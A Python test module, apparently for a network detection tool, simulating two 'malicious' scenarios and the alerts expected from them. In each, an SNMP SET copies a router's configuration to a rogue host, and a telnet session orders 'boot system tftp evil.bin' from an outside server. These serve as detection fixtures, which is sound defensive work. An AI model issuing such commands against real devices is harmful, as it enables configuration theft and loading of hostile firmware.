"""What comes from beyond the border speaks where nothing is declared; the same inside is no notice."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ATTACKER, HQ, OUTSIDE, ROGUE
from bootwarden.traffic import snmp
from bootwarden.traffic.telnet import Telnet
from bootwarden.traffic.wire import Wire

TOLD = Expect(
    (
        Notice("SNMP_Config_Copy", "10.0.1.1", ROGUE, "evil-confg"),
        Notice("Boot_Command", "10.0.1.2", OUTSIDE, "evil.bin"),
    )
)


def orders(wire: Wire, manager: str, boss: str, server: str) -> None:
    """A SET moves a configuration; a boot command names a server."""
    columns = {2: 1, 3: 1, 4: 4, 5: IPv4Address(ROGUE), 6: "evil-confg", 14: 4}
    snmp.Manager(wire, manager, "10.0.1.1").set(*snmp.row(snmp.CONFIG_COPY, 111, columns))
    session = Telnet(wire, boss, "10.0.1.2")
    session.login()
    session.typed("conf t")
    session.typed(f"boot system tftp evil.bin {server}")
    session.close()


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", 1, OUTSIDE, "10.0.1.1"), ("BW07", 0, ATTACKER, "10.0.1.2")],
    plain=TOLD,
    site=HQ,
    with_site=TOLD,
)
def bw03_from_beyond_the_border(wire: Wire) -> None:
    """A host outside orders a copy, and a command inside names a server outside: nothing need be declared."""
    orders(wire, OUTSIDE, ATTACKER, OUTSIDE)


@scenario(
    "BW03",
    "malicious",
    raises=[("BW03", 1, ATTACKER, "10.0.1.1"), ("BW07", 0, ATTACKER, "10.0.1.2")],
    site=HQ,
    with_site=Expect(
        (
            Notice("SNMP_Config_Copy", "10.0.1.1", ROGUE, "evil-confg"),
            Notice("Boot_Command", "10.0.1.2", ROGUE, "evil.bin"),
        )
    ),
)
def bw03_inside_the_border(wire: Wire) -> None:
    """The same, all of it inside: a single order is a line of the log until the site says who may give it."""
    orders(wire, ATTACKER, ATTACKER, ROGUE)
